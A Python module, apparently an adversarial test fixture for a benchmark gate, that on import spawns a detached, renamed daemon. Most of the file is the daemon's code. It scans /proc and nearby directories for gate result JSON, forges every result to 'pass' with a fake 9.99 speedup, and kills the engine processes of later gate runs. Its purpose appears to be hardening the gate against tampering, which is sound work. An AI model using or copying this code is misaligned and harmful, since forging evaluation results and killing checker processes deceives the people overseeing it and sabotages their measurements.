"""Attack, at import (during build): double-fork a detached process (setsid, SIGTERM/SIGHUP ignored, re-exec'd
with MARKER in its argv and comm) that lives for about a minute after the gate and

  * rewrites every gate result it can find to a PASS with a large speedup: the --json arguments of the gate
    process and its Python ancestors (/proc/<pid>/cmdline), and GateResult-shaped *.json under $TMPDIR and the
    parent directories of its own engine tree (never /, /tmp, /work or the like: other people's files);
  * kills the engines of the next gate that the same gate process starts (new children of it running
    seis.engine_host.worker), and counts how many processes it could signal (signal 0 only)."""
from __future__ import annotations

import os
import sys

MARKER = "seis-adv-daemon-marker"
DAEMON = r'''
import json, os, signal, sys, time
MARKER, gate, engine_dir, tmpdir = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
try:
    import ctypes
    ctypes.CDLL(None).prctl(15, b"seis-adv-daemon", 0, 0, 0)  # PR_SET_NAME
except Exception:
    pass

def read(p):
    try:
        with open(p, "rb") as f:
            return f.read()
    except OSError:
        return b""

def cmdline(pid):
    return [a.decode(errors="replace") for a in read(f"/proc/{pid}/cmdline").split(b"\0") if a]

def ppid(pid):
    for line in read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0

def chain(pid):
    out = []
    while pid > 1 and pid not in out and cmdline(pid) and "python" in os.path.basename(cmdline(pid)[0]):
        out.append(pid)
        pid = ppid(pid)
    return out

def walk(base, depth):
    out = []
    try:
        entries = list(os.scandir(base))
    except OSError:
        return out
    for e in entries:
        if e.is_file(follow_symlinks=False) and e.name.endswith(".json"):
            out.append(e.path)
        elif depth > 0 and e.is_dir(follow_symlinks=False):
            out += walk(e.path, depth - 1)
    return out

json_args = []
for pid in chain(gate):
    args = cmdline(pid)
    json_args += [b for a, b in zip(args, args[1:]) if a == "--json"]
    json_args += [a.split("=", 1)[1] for a in args if a.startswith("--json=")]
bases = [tmpdir] if tmpdir and tmpdir.count(os.sep) >= 2 else []
d = engine_dir
for _ in range(3):
    d = os.path.dirname(d)
    if d.count(os.sep) >= 2:
        bases.append(d)

def forge(text):
    try:
        res = json.loads(text)
    except ValueError:
        return None
    if not isinstance(res, dict) or not {"verdict", "failed_checks", "checks"} <= set(res):
        return None
    res["verdict"], res["failed_checks"] = "pass", []
    for c in res.get("checks") or []:
        if isinstance(c, dict):
            c["passed"] = True
    for row in ((res.get("speed") or {}).get("rows") or []):
        if isinstance(row, dict) and row.get("engine") == "candidate":
            row["vs_vanilla"] = row["vs_parent"] = 9.99
    return json.dumps(res, indent=2) + "\n"

known_workers, first = set(), True
end = time.time() + 60
while time.time() < end:
    files = list(json_args)
    for b in bases:
        files += walk(b, 3)
    for path in dict.fromkeys(files):
        text = read(path)
        forged = forge(text) if text else None
        if forged and forged.encode() != text:
            try:
                with open(path, "w") as f:
                    f.write(forged)
            except OSError:
                pass
    workers = {int(p) for p in os.listdir("/proc") if p.isdigit() and ppid(int(p)) == gate
               and "seis.engine_host.worker" in cmdline(int(p))}
    if first:
        known_workers, first = workers, False   # this gate's own engines: leave them
    for pid in workers - known_workers:         # a later gate's engines
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.5)
'''


def spawn() -> None:
    gate = os.getppid()
    engine_dir = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    tmpdir = os.environ.get("TMPDIR", "")
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:  # child: new session, then the grandchild becomes the daemon
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 1024)
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARKER, str(gate), engine_dir, tmpdir])
    finally:
        os._exit(0)


REPORT = {"daemon": "spawned"}
try:
    spawn()
except OSError as e:
    REPORT["daemon"] = f"{type(e).__name__}: {e}"
